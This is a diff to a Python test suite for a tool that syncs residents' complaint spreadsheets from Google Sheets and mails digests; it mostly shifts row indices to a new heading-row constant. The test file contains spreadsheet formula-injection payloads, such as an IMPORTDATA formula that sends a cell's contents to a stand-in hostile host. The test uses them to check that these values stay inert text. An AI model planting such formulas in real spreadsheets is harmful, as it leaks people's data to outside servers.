@@ -26,6 +26,7 @@ from automation.cli.arguments import COMMANDS
 from automation.cli.compose import jakarta_now
 from automation.cli.logs import start_log
 from automation.config.tables import HEADINGS, JOURNAL, MAILS, REGISTER, REPAIRS, SETTINGS, SOURCES
+from automation.sheets.prepare import INTAKE_HEADING_ROW as HEAD
 from tests.google_city import City
 from tests.operator_desk import BENDA, TAB, Desk
 from tests.sheets_server.fixtures import Google
@@ -34,6 +35,8 @@ from tests.sheets_server.people import _with
 from tests.smtp_server import HOST, PASSWORD, USERNAME, smtp_server
 from tests.xlsx_person import Editor
 
+#: The first row (0-based) of complaints in a tab that `setup` made.
+FIRST = HEAD + 1
 NASTY = (
     '=IMPORTDATA("https://jahat.example/?"&A2)',
     '=HYPERLINK("https://jahat.example","klik")',
@@ -267,15 +270,17 @@ def test_whatever_stands_in_a_cell_of_a_google_spreadsheet_is_text_and_stays_whe
     typed = [(column, text) for text in NASTY for column in columns]
     for number, (column, text) in enumerate(typed):
         city.type("Benda", TAB, f"#{number}", {**COMPLAINT, Column.PHONE: f"0812{number:08}", column: text})
-    head = person.values(TAB)[0]
-    person.formula(TAB, 1, head.index(Column.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali")
+    head = person.values(TAB)[HEAD]
+    person.formula(
+        TAB, FIRST, head.index(Column.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali"
+    )
     mine = [row[5:] for row in person.values(TAB)]
     assert city.run("sync") == 0
     assert [row[5 : len(was) + 5] for row, was in zip(person.values(TAB), mine, strict=True)] == mine
-    assert person.formulas(TAB) == [(1, head.index(Column.DESCRIPTION))]
+    assert person.formulas(TAB) == [(0, 0), (FIRST, head.index(Column.DESCRIPTION))]  # the first is the status line
     assert person.formulas(JOURNAL) == []
     assert all(not city.kendali.formulas(tab) for tab in HEADINGS)
-    rows = person.values(TAB)[1:]
+    rows = person.values(TAB)[FIRST:]
     assert all(row[0] or row[1] for row in rows)
     assert city.run("digest", "harian", "--preview") == 0
     (mail,) = (tmp_path / "outbox").glob("*/*.eml")
@@ -300,7 +305,7 @@ def test_the_longest_cells_there_can_be_are_read_and_only_shortened_in_mails(
     city.type("Benda", TAB, "#1", {**COMPLAINT, Column.DESCRIPTION: longest, Column.ADDRESS: longest})
     assert city.run("sync") == 0
     assert city.tickets("Benda", TAB)["#1"].startswith("RR-")
-    assert longest in city.spreadsheets["Benda"].values(TAB)[1]
+    assert longest in city.spreadsheets["Benda"].values(TAB)[FIRST]
 
 
 # Sizes --------------------------------------------------------------------------------------------------------------
@@ -318,16 +323,16 @@ def test_more_rows_than_one_request_takes_reach_google_in_one_cycle(google: Goog
     city = City(google, tmp_path, "Benda")
     city.set_up()
     person = city.spreadsheets["Benda"]
-    head = person.values(TAB)[0]
+    head = person.values(TAB)[HEAD]
     sheet = person.sheet(TAB)
-    for row in range(1, 1101):
+    for row in range(FIRST, FIRST + 1100):
         cells: dict[Any, Value] = {**COMPLAINT, Column.NAME: f"Warga {row}", Column.PHONE: f"0812{row:08}"}
         sheet.put_row(row, 5, tuple(_with(EMPTY, cells.get(heading)) for heading in head[5:]))
     sheet.grid["rowCount"] = max(sheet.row_count, 1200)
     city.server.requests.clear()
     assert city.run("sync") == 0
     assert city.requests(person)["batchUpdate"] == 2
-    tickets = [row[0] for row in person.values(TAB)[1:]]
+    tickets = [row[0] for row in person.values(TAB)[FIRST:]]
     assert len(set(tickets)) == 1100 and None not in tickets
     assert len(city.kendali.values(REGISTER)) == 1101
 
